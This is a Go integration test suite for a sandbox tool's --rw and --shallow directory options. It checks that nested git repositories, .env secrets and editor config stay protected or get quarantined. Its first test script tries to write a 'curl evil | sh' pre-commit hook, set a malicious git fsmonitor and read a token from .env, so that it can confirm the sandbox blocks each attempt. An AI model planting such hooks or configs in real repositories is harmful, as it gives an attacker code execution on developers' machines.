package integration

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A directory given with --rw is searched as the workspace is: the
// repositories nested in it keep their .git read-only, the .env files
// below its top read as empty, and what the run makes there that git, an
// editor or an agent on the host would run (a new repository, a nested
// project's .vscode) is renamed NAME.nsbox-quarantine at the end.
// Before, only DIR/.git and the files at DIR's top were covered: a run
// given --rw ~/src could plant a hook in ~/src/app/.git/hooks.
func TestRWDirectoryNestedProtected(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws, other := u.visibleDir(t), u.visibleDir(t)
		u.mkdirs(t, filepath.Join(other, "repo", ".git", "hooks"), filepath.Join(other, "deep", "x"))
		u.writeFile(t, filepath.Join(other, "repo", ".git", "config"), "[core]\n\tbare = false\n", 0o644)
		u.writeFile(t, filepath.Join(other, "deep", "x", ".env"), "TOKEN=s3cret\n", 0o644)
		r := u.sh(t, &runOpts{dir: ws}, []string{"--rw", other}, fmt.Sprintf(`cd %s
echo 'curl evil | sh' > repo/.git/hooks/pre-commit 2>/dev/null || echo hook-refused
printf '[core]\n\tfsmonitor = evil\n' >> repo/.git/config 2>/dev/null || echo config-refused
echo "env=[$(cat deep/x/.env)]"
mkdir -p new/.git/hooks new/.git/objects new/.git/refs
printf 'ref: refs/heads/main\n' > new/.git/HEAD
printf '[core]\n\tfsmonitor = evil\n' > new/.git/config
mkdir -p proj/.vscode && echo '{"tasks":[]}' > proj/.vscode/tasks.json
echo done`, other))
		expectCode(t, r, 0)
		for _, want := range []string{"hook-refused", "config-refused", "env=[]", "done"} {
			if !strings.Contains(r.stdout, want) {
				t.Errorf("stdout lacks %q: %s\nstderr: %s", want, r.stdout, r.stderr)
			}
		}
		if exists(filepath.Join(other, "repo", ".git", "hooks", "pre-commit")) {
			t.Errorf("a hook was planted in a repository of the --rw directory")
		}
		for _, q := range []string{"new/.git", "proj/.vscode"} {
			p := filepath.Join(other, q)
			if exists(p) || !exists(p+".nsbox-quarantine") {
				t.Errorf("%s, made by the run in the --rw directory, was not quarantined; stderr: %s", p, r.stderr)
			}
		}
	})
}

// --shallow DIR leaves DIR's nested entries to the user's choice: what
// the run makes below DIR's top stays, DIR's top level is still
// protected, and the workspace is searched as before.
func TestRWDirectoryShallow(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws, other := u.visibleDir(t), u.visibleDir(t)
		u.mkdirs(t, filepath.Join(other, "deep", "x"))
		u.writeFile(t, filepath.Join(other, "deep", "x", ".env"), "TOKEN=s3cret\n", 0o644)
		r := u.sh(t, &runOpts{dir: ws}, []string{"--rw", other, "--shallow", other}, fmt.Sprintf(`cd %s
echo "env=[$(cat deep/x/.env)]"
mkdir -p new/.git/objects new/.git/refs && printf 'ref: refs/heads/main\n' > new/.git/HEAD
mkdir .vscode 2>/dev/null || echo top-refused
cd %s && mkdir -p sub/.git/objects sub/.git/refs && printf 'ref: refs/heads/main\n' > sub/.git/HEAD
echo done`, other, ws))
		expectCode(t, r, 0)
		for _, want := range []string{"env=[TOKEN=s3cret]", "top-refused", "done"} {
			if !strings.Contains(r.stdout, want) {
				t.Errorf("stdout lacks %q: %s\nstderr: %s", want, r.stdout, r.stderr)
			}
		}
		if !exists(filepath.Join(other, "new", ".git")) {
			t.Errorf("below a shallow directory's top, the run's repository was quarantined")
		}
		if exists(filepath.Join(ws, "sub", ".git")) {
			t.Errorf("--shallow of another directory stopped the workspace's audit")
		}
		// Only a writable directory of the run can be shallow.
		r = u.run(t, &runOpts{dir: ws}, "run", "--shallow", other, "--", "true")
		if r.code == 0 || !strings.Contains(r.stderr, "is not a writable directory of this run") {
			t.Errorf("--shallow of a directory that is not writable: exit %d, stderr %s", r.code, r.stderr)
		}
	})
}

// A --rw directory too big for the walk stops the run (an earlier sandbox
// could have grown it to hide what it planted below), and the error names
// the knob for that directory; with it, the run starts.
func TestRWDirectoryTooBigNamesShallow(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws, other := u.visibleDir(t), u.visibleDir(t)
		// 25,000 directories is the walk's bound (docs/profiles.md).
		for i := 0; i < 126; i++ {
			for j := 0; j < 200; j++ {
				if err := os.MkdirAll(filepath.Join(other, fmt.Sprintf("d%03d", i), fmt.Sprintf("e%03d", j)), 0o755); err != nil {
					t.Fatal(err)
				}
			}
		}
		r := u.run(t, &runOpts{dir: ws}, "run", "--rw", other, "--", "true")
		if r.code != 125 || !strings.Contains(r.stderr, "--shallow "+other) {
			t.Fatalf("exit %d, want 125 and an error naming --shallow %s; stderr: %s", r.code, other, r.stderr)
		}
		r = u.run(t, &runOpts{dir: ws}, "run", "--rw", other, "--shallow", other, "--", "true")
		expectCode(t, r, 0)
	})
}
